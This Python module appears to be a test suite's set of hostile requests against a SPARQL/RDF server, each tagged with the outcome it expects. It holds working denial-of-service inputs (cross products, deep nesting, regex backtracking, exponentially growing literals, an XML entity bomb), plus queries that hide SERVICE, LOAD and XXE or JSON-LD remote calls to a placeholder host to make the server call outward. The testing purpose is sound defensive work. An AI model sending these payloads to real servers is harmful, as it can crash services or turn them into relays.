"""The hostile set, part 1: requests, one at a time, that are to stall, crash, swell or turn a SPARQL server outward.

Where an address to be called is needed, CALLED stands in the text; nobody but the caller may listen there.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, field
from urllib.parse import quote, urlencode

QUERY, UPDATE, FORM = "application/sparql-query", "application/sparql-update", "application/x-www-form-urlencoded"
STORE = "/rdf-graph-store"
GRAPH = f"{STORE}?graph=e:hostile"
CALLED = "CALLED"

WHOLE, REFUSED, STOPPED, CUT = "whole", "refused", "stopped", "cut"
"""Kinds of answer: 2xx to its end; 4xx; 503; 2xx whose end is missing, as every HTTP client notices."""

SORT = "SELECT * { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l } ORDER BY ?c ?f ?i ?l"
CROSS_PRODUCT = "SELECT * { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l }"
P = "<https://w3id.org/tracegraph/ontology#suppliesTo>"

Kinds = frozenset[str]


@dataclass(frozen=True, slots=True)
class Request:
    """One request. kinds: what its answer may be. needs_token: it is to be sent with one."""

    name: str
    body: bytes | None
    kinds: Kinds
    method: str = "POST"
    path: str = "/sparql"
    headers: dict[str, str] = field(default_factory=dict)
    needs_token: bool = False


def requests() -> list[Request]:
    """All of them, each of another name."""
    return [*_queries(), *_outward(), *_broken(), *_updates(), *_graphs()]


def _query(name: str, text: str | bytes, *kinds: str) -> Request:
    return Request(name, _bytes(text), frozenset(kinds), headers={"Content-Type": QUERY})


def _update(name: str, text: str | bytes, *kinds: str) -> Request:
    named = f"update: {name}"
    return Request(named, _bytes(text), frozenset(kinds), headers={"Content-Type": UPDATE}, needs_token=True)


def _put(name: str, media_type: str, text: str | bytes, *kinds: str) -> Request:
    headers = {"Content-Type": media_type}
    named = f"graph: {name}"
    return Request(named, _bytes(text), frozenset(kinds), "PUT", GRAPH, headers, needs_token=True)


def _bytes(text: str | bytes) -> bytes:
    return text if isinstance(text, bytes) else text.encode()


def _nested(n: int) -> str:
    return "SELECT * " + "{" * n + " ?s ?p ?o " + "}" * n


def _doubled(n: int, seed: str = "ten bytes.") -> str:
    """A literal that grows to 2 ** n times its length."""
    return f'BIND("{seed}" AS ?v0) ' + " ".join(f"BIND(CONCAT(?v{i}, ?v{i}) AS ?v{i + 1})" for i in range(n))


def _queries() -> Iterator[Request]:
    """Shapes that overflow a stack or a planner, and answers without end."""
    yield _query("cross product, sorted", SORT, STOPPED)
    yield _query("cross product, counted", f"SELECT (COUNT(*) AS ?n) {CROSS_PRODUCT[8:]}", STOPPED)
    yield _query("cross product, distinct", f"SELECT DISTINCT {CROSS_PRODUCT[7:]}", CUT)
    yield _query("cross product, grouped", f"SELECT ?a (COUNT(*) AS ?n) {CROSS_PRODUCT[8:]} GROUP BY ?a", STOPPED)
    yield _query("2,500 nested braces", _nested(2_500), REFUSED)
    yield _query("5,000 nested parentheses", f"SELECT * {{ FILTER({'(' * 5_000}1{')' * 5_000}) }}", REFUSED)
    yield _query("9,000 terms of ||", f"ASK {{ ?s ?p ?o FILTER({'||'.join(['?s = ?o'] * 9_000)}) }}", REFUSED)
    yield _query("800 steps of a path", f"SELECT * {{ ?s {'/'.join([P] * 800)} ?o }}", REFUSED)
    yield _query("400 steps of a path", f"SELECT * {{ ?s {'/'.join([P] * 400)} ?o }}", WHOLE, STOPPED, REFUSED)
    star = f"({P}|!{P})"
    yield _query("paths of any length", f"SELECT * {{ ?s {star}* ?o . ?o {star}+ ?x . ?x {star}* ?s }}", STOPPED, CUT)
    yield _query("10,000 UNIONs", f"SELECT * {{ {' UNION '.join(['{ ?s ?p ?o }'] * 10_001)} }}", REFUSED)
    yield _query("100,000 minus signs", f"SELECT ({'-' * 100_000}1 AS ?x) {{}}", REFUSED)
    subselects = "SELECT * { " * 90 + "?s ?p ?o" + " }" * 90
    yield _query("90 subselects in each other", subselects, WHOLE, STOPPED, CUT)
    chained = " OPTIONAL ".join(f"{{ ?s{i} ?p{i} ?o{i} }}" for i in range(100))
    yield _query("100 OPTIONALs of a cross product", f"SELECT * {{ ?s ?p ?o OPTIONAL {chained} }}", STOPPED, CUT)
    yield from _large()


def _large() -> Iterator[Request]:
    """Literals and tables that grow, and patterns that take time."""
    yield _query("literal of 2^40 x 10 bytes", f"SELECT ?v40 {{ {_doubled(40)} }}", REFUSED, STOPPED)
    yield _query("literal of 160 MB", f"SELECT ?v24 {{ {_doubled(24)} }}", WHOLE, REFUSED, STOPPED, CUT)
    grown = f"SELECT (GROUP_CONCAT(STR(?s)) AS ?x) {{ {_doubled(20)} BIND(?v20 AS ?s) ?a ?b ?c . ?d ?e ?f }}"
    yield _query("GROUP_CONCAT of 10 MB literals", grown, REFUSED, STOPPED)
    for pattern in ("(a+)+$", "(a|aa)+$", "(a|a?)+$", "(.*a){40}$"):
        matched = f'SELECT ?m {{ {_doubled(20, "aaaaaaaaaa")} BIND(REGEX(?v20, "{pattern}") AS ?m) }}'
        yield _query(f"regex {pattern} on 10 MB", matched, WHOLE, STOPPED)
    for pattern in ("((a{1,1000}){1,1000}){1,1000}", "(\\\\p{L}{1,200}){1,200}", "(" * 5_000 + "a" + ")" * 5_000):
        matched = f'SELECT * {{ ?s ?p ?o FILTER(REGEX(STR(?o), "{pattern}")) }}'
        yield _query(f"regex {pattern[:24]} on all", matched, WHOLE, STOPPED)
    replaced = f'SELECT (STRLEN(REPLACE(?v20, "a", "{"b" * 10_000}")) AS ?n) {{ {_doubled(20, "aaaaaaaaaa")} }}'
    yield _query("REPLACE to 100 GB", replaced, REFUSED, STOPPED)
    yield _query("VALUES of 400,000", f"SELECT (COUNT(*) AS ?n) {{ VALUES ?x {{ {'1 ' * 400_000}}} }}", WHOLE, STOPPED)
    twice = " ".join(f"VALUES ?x{i} {{ {'1 ' * 60_000}}}" for i in range(4))
    yield _query("VALUES of 60,000, four times", f"SELECT * {{ {twice} }} ORDER BY ?x1", STOPPED, REFUSED)
    for number in (2**63, 2**64, 10**40):
        yield _query(f"LIMIT {number:.0e}", f"SELECT * {{ ?s ?p ?o }} LIMIT {number}", WHOLE, REFUSED, CUT)
        yield _query(f"OFFSET {number:.0e}", f"SELECT * {{ ?s ?p ?o }} OFFSET {number}", WHOLE, REFUSED, STOPPED)
    yield _query("one IRI of 900 kB", f"ASK {{ <e:{'x' * 900_000}> ?p ?o }}", WHOLE, REFUSED)
    yield _query("one number of 900 kB", f"SELECT ({'9' * 900_000} AS ?x) {{}}", WHOLE, REFUSED)
    yield _query("comment of 900 kB", "ASK {} #" + "x" * 900_000, WHOLE)
    yield Request("Accept of 5,000 ranges", b"ASK {}", frozenset({WHOLE, REFUSED}), headers=_accept(5_000))


def _accept(n: int) -> dict[str, str]:
    return {"Content-Type": QUERY, "Accept": ",".join(f"a/b{i};q=0.1" for i in range(n))[:60_000]}


def _outward() -> Iterator[Request]:
    """Every way to hide a SERVICE that is known. Some are no SPARQL; what counts is that nobody is called."""
    url, group = f"<http://{CALLED}/sparql>", "{ ?s ?p ?o }"
    texts = {
        "SERVICE": f"SELECT * {{ SERVICE {url} {group} }}",
        "SERVICE in lower case": f"SELECT * {{ service {url} {group} }}",
        "SERVICE SILENT": f"SELECT * {{ SERVICE SILENT {url} {group} }}",
        "SERVICE after a comment that a bare CR ends": f"SELECT * {{ #\rSERVICE {url} {group}\r}}",
        "SERVICE after a comment that hides it": f"SELECT * {{ # {{ }} \rSERVICE SILENT {url} {group} #\n}}",
        "SERVICE in nested groups": f"SELECT * {{ {{ {{ OPTIONAL {{ SERVICE {url} {group} }} }} }} }}",
        "SERVICE in EXISTS": f"SELECT * {{ ?a ?b ?c FILTER EXISTS {{ SERVICE SILENT {url} {group} }} }}",
        "SERVICE in a subselect": f"SELECT * {{ {{ SELECT * {{ SERVICE {url} {group} }} }} }}",
        "SERVICE of a variable": f"SELECT * {{ BIND({url} AS ?e) SERVICE ?e {group} }}",
        "SERVICE of a variable in VALUES": f"SELECT * {{ VALUES ?e {{ {url} }} SERVICE SILENT ?e {group} }}",
        "SERVICE of a prefixed name": f"PREFIX x: <http://{CALLED}/> SELECT * {{ SERVICE x:sparql {group} }}",
        "SERVICE without a blank": f"PREFIX x: <http://{CALLED}/> SELECT*{{SERVICE:x{group}SERVICEx:sparql{group}}}",
        "SERVICE of a relative IRI": f"BASE <http://{CALLED}/> SELECT * {{ SERVICE <sparql> {group} }}",
        "SERVICE in escapes": f"SELECT * {{ \\u0053ERVICE {url} {group} }}",
        "SERVICE in long escapes": f"SELECT * {{ \\U00000053\\U00000045RVICE {url} {group} }}",
        "SERVICE of an IRI in escapes": f"SELECT * {{ SERVICE <\\u0068ttp://{CALLED}/sparql> {group} }}",
        "SERVICE after what reads as an IRI": f"SELECT * {{ ?a ?p ?b FILTER(?a<?b).SERVICE{url}{group} #>\n}}",
        "SERVICE after a quote in a comment": f"SELECT * {{ # '\nSERVICE {url} {group} # '\n}}",
        "SERVICE with a long s": f"SELECT * {{ \u017fERVICE {url} {group} }}",
        "LOAD as a query": f"LOAD <http://{CALLED}/g>",
        "FROM an address": f"SELECT * FROM <http://{CALLED}/g> {{ ?s ?p ?o }}",
    }
    for name, text in texts.items():
        kinds = (WHOLE,) if name.startswith("FROM") else (REFUSED,)
        yield _query(name, text, *kinds)
    asked = urlencode({"query": "ASK {}", "default-graph-uri": f"http://{CALLED}/g"})
    yield Request("default-graph-uri of an address", None, frozenset({WHOLE}), "GET", f"/sparql?{asked}")


def _broken() -> Iterator[Request]:
    """Bytes that are no text, and texts that are no request."""
    refused = frozenset({REFUSED})
    form, direct = {"Content-Type": FORM}, {"Content-Type": QUERY}
    yield Request("invalid UTF-8 in a query", b"ASK { ?s ?p '\xff\xfe' }", refused, headers=direct)
    yield Request("half a surrogate in a query", b"ASK { ?s ?p '\xed\xa0\x80' }", refused, headers=direct)
    yield Request("invalid UTF-8 in a form", b"query=ASK+%7B+%3Fs+%3Fp+'%ff'+%7D", refused, headers=form)
    yield Request("raw bytes in a form", b"query=ASK {} \xff", refused, headers=form)
    yield Request("invalid UTF-8 in an address", None, refused, "GET", "/sparql?query=ASK+%7B%7D+%23%ff%fe")
    yield Request("invalid UTF-8 in a path", None, refused, "GET", "/id/company/%ff%fe")
    yield Request(
        "invalid UTF-8 in a header", b"ASK {}", frozenset({WHOLE, REFUSED}), headers=direct | {"Accept": "\xff"}
    )
    yield Request("invalid UTF-8 in a type", b"ASK {}", refused, headers={"Content-Type": "text/\xff\xfe"})
    yield Request("invalid UTF-8 in a charset", b"ASK {}", refused, headers={"Content-Type": f"{QUERY}; charset=\xff"})
    yield Request("invalid UTF-8 in a token", b"", refused, headers={"Content-Type": UPDATE, "Authorization": "\xff"})
    yield Request("NUL in a query", b"ASK { ?s ?p '\x00' }", frozenset({WHOLE, REFUSED}), headers=direct)
    yield Request("NUL in a path", None, refused, "GET", "/id/company/%00")
    yield Request("NUL in a search", None, frozenset({WHOLE, REFUSED}), "GET", "/search?q=%00")
    yield Request("NUL in an IRI", None, refused, "GET", "/claims?subject=e:%00")
    yield Request("NUL in the name of a graph", None, refused, "GET", f"{STORE}?graph=e:%00")
    yield Request("search of 333 words", None, frozenset({WHOLE}), "GET", f"/search?q={quote('ab ' * 333)}")
    yield Request("search of 1,000 letters", None, frozenset({WHOLE}), "GET", f"/search?q={'ab' * 500}")
    asked = "&".join(["query=ASK+%7B%7D", *(f"default-graph-uri=e:{i}" for i in range(2_000))])
    yield Request("2,000 parameters", asked.encode(), refused, headers=form)


def _updates() -> Iterator[Request]:
    """The same kinds as updates, sent by one who may write."""
    url = f"<http://{CALLED}/g>"
    grows = "INSERT { ?a <e:x> ?l } WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l }"
    yield _update("cross product", grows, STOPPED, REFUSED)
    yield _update("DELETE of a cross product", grows.replace("INSERT", "DELETE", 1), STOPPED, REFUSED)
    yield _update("sorted cross product", f"INSERT {{ ?a <e:x> ?l }} WHERE {{ {{ {SORT} }} }}", STOPPED, REFUSED)
    yield _update("2,500 nested braces", f"INSERT {{}} WHERE {_nested(2_500)[9:]}", REFUSED)
    yield _update("10,000 UNIONs", f"INSERT {{}} WHERE {{ {' UNION '.join(['{}'] * 10_001)} }}", REFUSED)
    yield _update("800 steps of a path", f"INSERT {{}} WHERE {{ ?s {'/'.join([P] * 800)} ?o }}", REFUSED)
    yield _update("10,000 operations", "INSERT DATA { <e:a> <e:b> 1 } ;\n" * 10_000, WHOLE, REFUSED, STOPPED)
    exists = f"FILTER EXISTS {{ SERVICE SILENT {url} {{}} }}"
    grown = f"INSERT {{ <e:a> <e:b> ?v40 }} WHERE {{ {_doubled(40)} }}"
    yield _update("literal of 2^40 x 10 bytes", grown, REFUSED, STOPPED)
    for name, text in {
        "LOAD": f"LOAD {url}",
        "LOAD SILENT INTO": f"LOAD SILENT {url} INTO GRAPH <e:a>",
        "LOAD after a comment that a bare CR ends": f"#\rLOAD {url}",
        "LOAD as a second operation": f"INSERT DATA {{ <e:a> <e:b> 1 }} ; LOAD SILENT {url}",
        "LOAD in escapes": f"\\u004cOAD {url}",
        "LOAD of a prefixed name": f"PREFIX x: <http://{CALLED}/> LOAD x:g",
        "SERVICE": f"INSERT {{ ?s ?p ?o }} WHERE {{ SERVICE {url} {{ ?s ?p ?o }} }}",
        "SERVICE SILENT in EXISTS": f"DELETE {{ ?a ?b ?c }} WHERE {{ ?a ?b ?c {exists} }}",
        "SERVICE after a comment that a bare CR ends": f"INSERT {{}} WHERE {{ #\rSERVICE {url} {{}}\r}}",
    }.items():
        yield _update(name, text, REFUSED)
    yield _update("invalid UTF-8", b"INSERT DATA { <e:a> <e:b> '\xff' }", REFUSED)
    yield _update("NUL in an IRI", b"INSERT DATA { <e:\x00> <e:b> 1 }", REFUSED)


def _graphs() -> Iterator[Request]:
    """Files of RDF that swell, nest or call."""
    turtle, xml, json = "text/turtle", "application/rdf+xml", "application/ld+json"
    yield _put("100,000 nested brackets", turtle, "<e:a> <e:b> " + "[<e:b> " * 100_000, REFUSED, STOPPED)
    yield _put("100,000 nested lists", turtle, f"<e:a> <e:b> {'(' * 100_000}{')' * 100_000} .", REFUSED, STOPPED)
    yield _put("100,000 nested elements", xml, _rdf_xml("<e:a><e:b>" * 50_000), REFUSED, STOPPED)
    yield _put("100,000 nested arrays", json, '{"@id": "e:a", "e:b": ' + "[" * 100_000, REFUSED, STOPPED)
    lines = ['<!ENTITY a0 "ten bytes.">', *(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))]
    bomb = f"<!DOCTYPE r [{''.join(lines)}]>"
    about = '<rdf:Description rdf:about="e:a"><e:b>%s</e:b></rdf:Description>'
    yield _put("entities of entities", xml, _rdf_xml(about % "&a9;", bomb) + "</rdf:RDF>", REFUSED, STOPPED)
    calls = f'<!DOCTYPE r [<!ENTITY a SYSTEM "http://{CALLED}/e">]>'
    yield _put("entity of an address", xml, _rdf_xml(about % "&a;", calls) + "</rdf:RDF>", REFUSED)
    called = f'{{"@context": "http://{CALLED}/c", "@id": "e:a", "e:b": 1}}'
    yield _put("context of an address", json, called, REFUSED)
    yield _put("invalid UTF-8", turtle, b"<e:a> <e:b> '\xff' .", REFUSED)
    yield _put("NUL", turtle, b"<e:a\x00> <e:b> 1 .", REFUSED)


def _rdf_xml(content: str, doctype: str = "") -> str:
    names = 'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:e="e:"'
    return f'<?xml version="1.0"?>{doctype}<rdf:RDF {names}>{content}'
